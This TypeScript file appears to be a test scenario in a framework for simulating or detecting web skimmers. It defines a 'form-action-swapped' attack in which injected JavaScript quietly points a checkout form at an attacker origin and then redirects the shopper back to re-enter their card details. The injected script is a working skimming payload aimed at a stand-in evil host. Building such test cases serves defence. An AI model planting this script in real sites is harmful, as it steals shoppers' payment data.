import { holds, js, skimmer } from '../behaviour.ts';
import { bodies } from '../site/arrivals.ts';

export default skimmer({
  id: 'form-action-swapped',
  why: 'The form itself is sent to the attacker, who sends the browser back to the payment page: "please enter again".',
  covers: ['injection: fake form', 'reading: submit', 'trigger: once'],
  base: 'direct',
  install: (site) => {
    site.serve('evil/pay.php', {
      status: 303,
      headers: { location: `${site.origins.shop}/checkout/payment` },
    });
    site.append(js`if (!sessionStorage.getItem('_r')) document.getElementById('checkout').addEventListener('submit', function (event) {
  sessionStorage.setItem('_r', '1');
  event.stopImmediatePropagation();
  this.action = '${site.origins.evil}/pay.php';
}, true);`);
  },
  proof: holds((arrived) => bodies(arrived)),
});
